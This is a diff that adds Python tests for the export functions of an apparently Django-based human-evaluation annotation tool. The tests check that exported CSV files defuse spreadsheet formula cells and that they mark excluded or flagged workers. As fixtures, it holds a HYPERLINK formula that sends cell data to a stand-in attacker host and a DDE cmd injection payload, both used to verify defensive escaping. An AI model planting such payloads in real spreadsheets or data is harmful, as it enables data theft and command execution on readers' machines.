@@ -178,3 +178,129 @@ def test_management_command_writes_each_format(tmp_path, capsys):
 
     with pytest.raises(CommandError, match="has no criterion 'nope'"):
         call_command("export_judgements", campaign.slug, "--criterion", "nope")
+
+
+# Safe to open, and saying what a reader needs (issue 9 §4, issue 10 §2) ----------------------
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+
+
+def _csv_rows(lines):
+    return list(csv.DictReader(io.StringIO("".join(lines))))
+
+
+def test_csv_exports_neutralise_formula_cells_from_workers_and_outputs():
+    campaign = judged_campaign(n_items=2, n_workers=2)
+    criterion = campaign.criteria.get()
+    campaign.workers.filter(external_id="PID0000").update(external_id=FORMULA)
+    campaign.workers.filter(external_id="PID0001").update(external_id="@SUM(1+1)")
+    first = campaign.systems.get(label="alpha")
+    first.label = "+cmd|' /C calc'!A0"
+    first.save(update_fields=["label"])
+    output = first.outputs.first()
+    output.text = "-2+3 said the system"
+    output.save(update_fields=["text"])
+
+    e2e = _csv_rows(csv_lines(criterion=criterion))
+    wmt = _csv_rows(wmt_lines(criterion=criterion))
+    assert {r["_worker_id"] for r in e2e} == {"'" + FORMULA, "'@SUM(1+1)"}
+    assert {r["judgeId"] for r in wmt} == {"'" + FORMULA, "'@SUM(1+1)"}
+    systems = {r[f"sys{i}"] for r in e2e for i in range(1, 6)}
+    assert "'+cmd|' /C calc'!A0" in systems and "+cmd|' /C calc'!A0" not in systems
+    assert "'-2+3 said the system" in {r[f"ref{i}"] for r in e2e for i in range(1, 6)}
+    assert "'+cmd|' /C calc'!A0" in {r[f"system{i}Id"] for r in wmt for i in range(1, 6)}
+    # No cell of either file starts a formula.
+    for rows in (e2e, wmt):
+        for row in rows:
+            for value in row.values():
+                assert not value.startswith(("=", "+", "@", "\t", "\r")), value
+                assert not value.startswith("-") or value.lstrip("-").replace(".", "").isdigit()
+    # Numbers stay numbers (WMT pads short rows with rank -1; scores stay numeric).
+    assert all(float(r["quality1"]) > 0 for r in e2e)
+
+
+def test_jsonl_keeps_worker_ids_raw():
+    campaign = judged_campaign(n_items=1, n_workers=1)
+    criterion = campaign.criteria.get()
+    campaign.workers.update(external_id=FORMULA)
+    records = [json.loads(line) for line in jsonl_lines(criterion=criterion)]
+    assert {r["worker_id"] for r in records} == {FORMULA}
+
+
+def test_exports_mark_excluded_and_flagged_workers():
+    campaign = judged_campaign(n_items=2, n_workers=3)
+    criterion = campaign.criteria.get()
+    campaign.workers.filter(external_id="PID0001").update(excluded=True, exclusion_reason="bot")
+    campaign.workers.filter(external_id="PID0002").update(flagged=True)
+    expected = {
+        "PID0000": ("false", "false"),
+        "PID0001": ("true", "false"),
+        "PID0002": ("false", "true"),
+    }
+    e2e = _csv_rows(csv_lines(criterion=criterion))
+    assert {r["_worker_id"]: (r["_worker_excluded"], r["_worker_flagged"]) for r in e2e} == expected
+    wmt = _csv_rows(wmt_lines(criterion=criterion))
+    assert {r["judgeId"]: (r["judgeExcluded"], r["judgeFlagged"]) for r in wmt} == expected
+    records = [json.loads(line) for line in jsonl_lines(criterion=criterion)]
+    assert {
+        r["worker_id"]: (str(r["worker_excluded"]).lower(), str(r["worker_flagged"]).lower())
+        for r in records
+    } == expected
+    # Leaving excluded workers out still marks the flagged ones.
+    kept = _csv_rows(csv_lines(criterion=criterion, include_excluded=False))
+    assert {r["_worker_id"] for r in kept} == {"PID0000", "PID0002"}
+
+
+def test_exports_carry_content_checks_per_output_and_the_standard():
+    from annotations.models import JudgementScore
+
+    campaign = judged_campaign(n_items=1, n_workers=1)
+    criterion = campaign.criteria.get()
+    criterion.standard_input = "name[Aromi], eatType[coffee shop]"
+    criterion.standard_text = '=1+1, a "standard" text'
+    criterion.scale_settings = {**criterion.scale_settings, "standard": 50}
+    criterion.content_checks = ["added", "missing", "perfect"]
+    criterion.save()
+    judgement = Judgement.objects.get(criterion=criterion)
+    ticked = {}
+    for n, score in enumerate(judgement.scores.order_by("slot", "id")):
+        checks = [["added"], ["missing", "added"], [], ["perfect"], ["missing"]][n]
+        JudgementScore.objects.filter(pk=score.pk).update(checks=checks)
+        ticked[score.output.system.label] = checks
+
+    (row,) = _csv_rows(csv_lines(criterion=criterion))
+    by_system = {row[f"sys{i}"]: row[f"content_checks{i}"] for i in range(1, 6)}
+    assert by_system == {label: ";".join(checks) for label, checks in ticked.items()}
+    assert row["_standard"] == "50"
+    assert row["_standard_input"] == "name[Aromi], eatType[coffee shop]"
+    assert row["_standard_text"] == "'" + '=1+1, a "standard" text'
+
+    (record,) = [json.loads(line) for line in jsonl_lines(criterion=criterion)]
+    assert {o["system"]: o["checks"] for o in record["outputs"]} == ticked
+    assert record["standard"] == {
+        "value": 50,
+        "input": "name[Aromi], eatType[coffee shop]",
+        "text": '=1+1, a "standard" text',
+    }
+
+
+def test_a_likert_criterion_has_no_standard():
+    campaign = judged_campaign(n_items=1, n_workers=1)
+    criterion = campaign.criteria.get()
+    criterion.scale = "likert"
+    criterion.scale_settings = {"levels": [{"value": v, "label": str(v)} for v in range(1, 6)]}
+    criterion.save()
+    (row,) = _csv_rows(csv_lines(criterion=criterion))
+    assert (row["_standard"], row["_standard_input"], row["_standard_text"]) == ("", "", "")
+    (record,) = [json.loads(line) for line in jsonl_lines(criterion=criterion)]
+    assert record["standard"] is None
+
+
+def test_exported_csv_still_reads_back_with_worker_formula_ids(tmp_path):
+    campaign = judged_campaign(n_items=2, n_workers=1)
+    criterion = campaign.criteria.get()
+    campaign.workers.update(external_id=FORMULA)
+    path = tmp_path / "quality.csv"
+    path.write_text("".join(csv_lines(criterion=criterion)), encoding="utf-8")
+    parsed = parse_e2e_ratings(path)
+    assert {j.worker_id for j in parsed.judgements} == {"'" + FORMULA}
